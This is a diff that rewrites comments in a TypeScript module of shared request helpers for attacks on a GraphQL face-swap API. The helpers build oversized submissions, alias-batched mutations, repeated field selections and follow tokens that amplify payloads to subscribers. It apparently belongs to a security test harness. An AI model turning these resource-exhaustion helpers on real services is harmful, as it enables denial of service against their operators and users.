@@ -1,20 +1,20 @@
-/** What attackers ask for again and again. */
+/** Requests shared by several attacks. */
 import { type Answer, inParallel, type Target } from './target.js';
 
 const SUBMIT = `mutation Submit($input: SubmitFaceSwapInput!) {
   submitFaceSwap(input: $input) { job { id } } }`;
-/** The longest that an address may be, and the most of them. */
+/** The maximum length of a URL, and the maximum number of them. */
 const ADDRESS_LENGTH = 4096;
 const MAX_IMAGES = 50;
 const OPTS = '1,2:3,4:5,6:7,8';
 
-/** A submit; what `path` says the sandbox understands. */
+/** A submit; words in `path` control the sandbox. */
 export function submitOf(path = '/face.jpg') {
   const image = { path: `https://example.com${path}` };
   return { query: SUBMIT, variables: { input: { sourceImage: [image], targetImage: [image] } } };
 }
 
-/** A submit of 100 pictures with the longest addresses: 413 KB; or with shorter ones. */
+/** A submit of 100 pictures with the longest URLs (413 KB), or with shorter ones. */
 export function largeSubmitOf(nth: number, addressLength = ADDRESS_LENGTH) {
   const images = Array.from({ length: MAX_IMAGES }, (_, i) => {
     const start = `https://example.com/${nth}/${i}/`;
@@ -23,7 +23,7 @@ export function largeSubmitOf(nth: number, addressLength = ADDRESS_LENGTH) {
   return { query: SUBMIT, variables: { input: { sourceImage: images, targetImage: images } } };
 }
 
-/** The addresses of all pictures of a job, so many times. */
+/** A selection that repeats the URLs of all pictures of a job. */
 export function picturesOf(times: number): string {
   const fields = Array.from(
     { length: times },
@@ -32,7 +32,7 @@ export function picturesOf(times: number): string {
   return `... on FaceSwapJob { ${fields.join(' ')} }`;
 }
 
-/** A token to follow a job of the attacker's by. */
+/** A follow token for one of the attacker's jobs. */
 export async function followToken(target: Target): Promise<string> {
   const made = await target.ask(submitOf());
   const id = /"id":"([^"]+)"/.exec(made.text)?.[1];
@@ -42,15 +42,15 @@ export async function followToken(target: Target): Promise<string> {
   return token;
 }
 
-/** Submits large requests, one after the other: each is written out again and again until it is done. */
+/** Submits large requests; followers receive each one again with every update of its job. */
 export async function submitLarge(target: Target, count: number): Promise<void> {
   await inParallel(count, 2, (i) => target.ask(largeSubmitOf(i)));
 }
 
-/** How many operations one request may hold, as aliases. */
+/** The maximum number of aliases in one request. */
 const ALIASES = 50;
 
-/** So many small submits, in as few requests as they fit in. */
+/** Sends many small submits in as few requests as possible. */
 export async function submitMany(target: Target, count: number): Promise<readonly Answer[]> {
   const image = '[{ path: "https://example.com/face.jpg" }]';
   const one = (_: unknown, i: number) =>
@@ -61,7 +61,7 @@ export async function submitMany(target: Target, count: number): Promise<readonl
   });
 }
 
-/** Each is done with all aliases that an operation may have. */
+/** Repeats a field under aliases. */
 export function aliased(count: number, field: (i: number) => string): string {
   return Array.from({ length: count }, (_, i) => `a${i}: ${field(i)}`).join(' ');
 }
